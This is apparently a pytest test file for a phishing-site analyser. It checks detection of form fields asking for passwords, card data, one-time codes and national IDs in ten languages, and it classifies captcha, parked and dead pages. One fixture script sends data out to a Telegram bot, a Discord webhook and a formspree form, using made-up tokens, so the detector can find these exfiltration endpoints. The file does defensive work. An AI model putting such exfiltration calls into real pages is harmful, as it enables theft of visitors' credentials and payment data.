"""What a form asks for, in ten languages; and what stands in a page's stead."""

from __future__ import annotations

import pytest

from mekiki.collect.page.fields import asks_for, exfiltration_in
from mekiki.collect.page.outcome import page_outcome

# One label of a form a line: language, label, what it asks for.
LABELS = """
ja|ユーザーID|user
ja|パスワード|password
ja|暗証番号|pin
ja|カード番号|card-number
ja|有効期限|card-expiry
ja|セキュリティコード|security-code
ja|ワンタイムパスワード|one-time-code
ja|認証コード（SMSで届いた6桁）|one-time-code
ja|マイナンバー|my-number
ja|生年月日|birthday
ja|電話番号|phone
ja|郵便番号|address
ja|お名前（フリガナ）|name
ja|口座番号|bank-account
ja|シークレットリカバリーフレーズ|seed-phrase
en|User name|user
en|Password|password
en|Card number|card-number
en|Expiry date (MM/YY)|card-expiry
en|CVV|security-code
en|Enter the verification code|one-time-code
en|12-word recovery phrase|seed-phrase
en|Private key|private-key
en|Date of birth|birthday
en|Sort code|bank-account
de|Anmeldename|user
de|Passwort|password
de|Kartennummer|card-number
de|Geburtsdatum|birthday
de|Postleitzahl|address
fr|Identifiant|user
fr|Mot de passe|password
fr|Numéro de carte|card-number
fr|Cryptogramme visuel|security-code
fr|Date de naissance|birthday
es|Contraseña|password
es|Número de tarjeta|card-number
es|Código de seguridad|security-code
pt|Senha|password
pt|Agência|bank-account
pt|Número do cartão|card-number
it|Codice di sicurezza|security-code
it|Data di nascita|birthday
nl|Wachtwoord|password
nl|Kaartnummer|card-number
zh|密码|password
zh|验证码|one-time-code
zh|卡号|card-number
ko|비밀번호|password
en|Social Security Number|national-id
en|Passport number|national-id
en|Mother's maiden name|secret-answer
en|Online banking PIN|pin
de|Prüfnummer|security-code
de|Kartenprüfnummer (3-stellig)|security-code
de|Steuer-ID|national-id
de|Online-Banking-PIN|pin
de|TAN|one-time-code
de|Bankleitzahl|bank-account
fr|Numéro de sécurité sociale|national-id
fr|Code secret|pin
fr|Code à usage unique|one-time-code
es|Número de la Seguridad Social|national-id
es|Clave secreta|pin
pt|CPF|national-id
pt|Senha do cartão (6 dígitos)|pin
it|Codice fiscale|national-id
it|Codice segreto|pin
nl|Burgerservicenummer|national-id
nl|Veiligheidscode|security-code
zh|身份证号码|national-id
zh|支付密码|pin
zh|动态密码|one-time-code
ko|주민등록번호|national-id
ko|카드 비밀번호|pin
ja|取引暗証|pin
ja|確認番号|one-time-code
ja|カード裏面の3桁の番号|security-code
ja|個人番号（12桁）|my-number
ja|基礎年金番号|national-id
ja|秘密の質問の答え|secret-answer
de|Passwort vergessen? E-Mail|password
de|Straße und Hausnummer|address
en|Company name|name
en|Promotion code|other
en|Order number|other
fr|Code promo|other
de|Kundennummer|other
ko|카드번호|card-number
ko|인증번호|one-time-code
""".strip().splitlines()


@pytest.mark.parametrize("line", LABELS)
def test_labels_are_understood_in_ten_languages(line: str) -> None:
    _, label, asks = line.split("|")
    assert asks_for("f3", "text", label=label) == asks
    assert asks_for("f3", "text", placeholder=label) == asks


@pytest.mark.parametrize(
    ("name", "type", "label", "autocomplete", "asks"),
    [
        ("passwd", "password", "", "", "password"),
        ("am_authpasswd", "password", "パスワード", "", "password"),
        ("x", "password", "メールアドレスのパスワード", "", "password"),
        ("x", "password", "暗証番号（4桁）", "", "pin"),
        ("cvv", "password", "", "", "security-code"),
        ("f", "text", "", "section-a billing cc-number", "card-number"),
        ("f", "text", "", "one-time-code", "one-time-code"),
        ("f", "email", "", "", "email"),
        ("f", "tel", "", "", "phone"),
        ("otp", "tel", "", "", "one-time-code"),
        ("cardNumber", "text", "", "", "card-number"),
        ("file1", "file", "", "", "file"),
        ("csrf", "hidden", "Password", "", "other"),
        ("q", "search", "Search", "", "other"),
        ("comment", "text", "Your question", "", "other"),
        ("shipping", "text", "Shipping speed", "", "other"),
    ],
)
def test_name_type_and_html_own_word_count_too(name: str, type: str, label: str, autocomplete: str, asks: str) -> None:
    assert asks_for(name, type, label=label, autocomplete=autocomplete) == asks


def test_where_a_script_sends_to_is_told_without_its_key() -> None:
    script = """
      fetch("https://api.telegram.org/bot5551234567:AAH0123456789abcdefghijklmnopqrstuv/sendMessage?chat_id=1")
      new Image().src = "https://discord.com/api/webhooks/998877665544/s3cr3t-t0ken"
      form.action = "https://formspree.io/f/xabcdefg"
    """
    found = dict(exfiltration_in(script))
    assert found == {
        "telegram-bot": "api.telegram.org/bot5551234567",
        "discord-webhook": "discord.com/api/webhooks/998877665544",
        "mail-form": "formspree.io/f/xabcdefg",
    }
    assert exfiltration_in("follow us on https://t.me/shop or telegram.org") == ()


@pytest.mark.parametrize(
    ("status", "title", "text", "outcome"),
    [
        (200, "Just a moment...", "Verifying you are human. This may take a few seconds.", "captcha"),
        (200, "", "私はロボットではありません", "captcha"),
        (404, "404 Not Found", "The requested URL was not found on this server.", "dead"),
        (410, "", "", "dead"),
        (200, "", "", "dead"),
        (200, "kagoya-upgrade.example", "This domain is for sale. Make an offer.", "parked"),
        (200, "Account Suspended", "This Account has been suspended. Contact your hosting provider.", "suspended"),
        (403, "Suspected phishing site | Cloudflare", "This website has been reported for potential phishing.", "interstitial"),
        (200, "Active! mail", "ユーザーID パスワード ログイン", "page"),
        (200, "Our shop", "We sell tents. " * 200 + "Verify you are human", "page"),
    ],
)  # fmt: skip
def test_what_stands_in_a_pages_stead_is_known_by_its_words(status: int, title: str, text: str, outcome: str) -> None:
    assert page_outcome(status, title, text, hosts=() if not text else ("a.test",)).id == outcome


def test_a_page_that_asks_for_a_secret_is_a_page_whatever_it_says() -> None:
    assert page_outcome(404, "404 Not Found", "Not found", asks=("password",)).id == "page"
    assert (
        page_outcome(200, "Login", "I'm not a robot", hosts=("hcaptcha.com",), asks=("user", "password")).id == "page"
    )


def test_a_download_is_told_as_one() -> None:
    assert page_outcome(200, "", "", download=True).id == "download"
